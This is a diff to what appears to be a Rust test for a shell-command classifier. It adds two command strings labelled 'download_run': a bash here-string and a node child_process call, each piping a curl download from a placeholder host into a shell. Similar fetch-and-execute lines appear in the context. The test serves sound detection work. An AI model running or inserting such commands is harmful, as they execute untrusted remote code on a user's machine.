@@ -150,6 +150,14 @@ fn commands_are_read_as_a_shell_reads_them() {
             "download_run",
         ),
         ("source <(curl -s https://x.example.org/a)", "download_run"),
+        (
+            "bash <<< \"$(curl https://x.example.org/a)\"",
+            "download_run",
+        ),
+        (
+            "node -e \"require('child_process').exec('curl https://x.example.org/a | sh')\"",
+            "download_run",
+        ),
         ("curl https://x.example.org/a > a.sh", ""),
         ("curl https://x.example.org/a | grep b | tee sh", ""),
         ("curl https://x.example.org/a | perl -ne print", ""),
